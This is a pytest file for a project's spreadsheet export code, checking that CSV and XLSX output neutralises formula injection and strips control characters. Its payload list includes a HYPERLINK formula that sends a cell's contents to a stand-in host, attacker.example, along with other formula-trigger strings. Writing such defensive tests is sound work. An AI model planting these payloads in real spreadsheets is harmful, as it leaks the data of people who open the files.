"""Formula injection and control characters in every XLSX and CSV export (gugus/core/spreadsheets.py)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from gugus.core.spreadsheets import csv_text, csv_writer, is_formula_like, xlsx_append, xlsx_text

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"klik")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _cell_xml(content: bytes) -> str:
    """Every worksheet's XML, to check that no cell is stored as a formula (<f>)."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_like_text_is_recognised_and_csv_gets_an_apostrophe(value):
    assert is_formula_like(value)
    assert csv_text(value) == "'" + value


def test_plain_values_pass_through():
    for value in ["Rakor", "", "62 812", 5, -5, Decimal("-1.5"), None, dt.date(2026, 1, 1)]:
        assert csv_text(value) == value
        assert xlsx_text(value) == value
    assert not is_formula_like(-5)


def test_xlsx_text_strips_control_characters_and_lone_surrogates_only():
    assert xlsx_text("Ra\x00k\x07or\x1b 2026\ud800") == "Rakor 2026"
    assert xlsx_text("line\nbreak\tand tab") == "line\nbreak\tand tab"


def test_xlsx_append_never_writes_a_formula():
    book = Workbook()
    xlsx_append(book.active, [*PAYLOADS, 3, "ok"])
    out = io.BytesIO()
    book.save(out)
    assert "<f>" not in _cell_xml(out.getvalue())
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in row] == [*PAYLOADS, 3, "ok"]
    assert [c.data_type for c in row[:6]] == ["s"] * 6
    assert all(c.quotePrefix for c in row[:6]) and not row[7].quotePrefix


def test_csv_writer_neutralises_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["id", "name"])
    writer.writerows([[HYPERLINK, 1], ["@x", -2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "name"], ["'" + HYPERLINK, "1"], ["'@x", "-2"]]
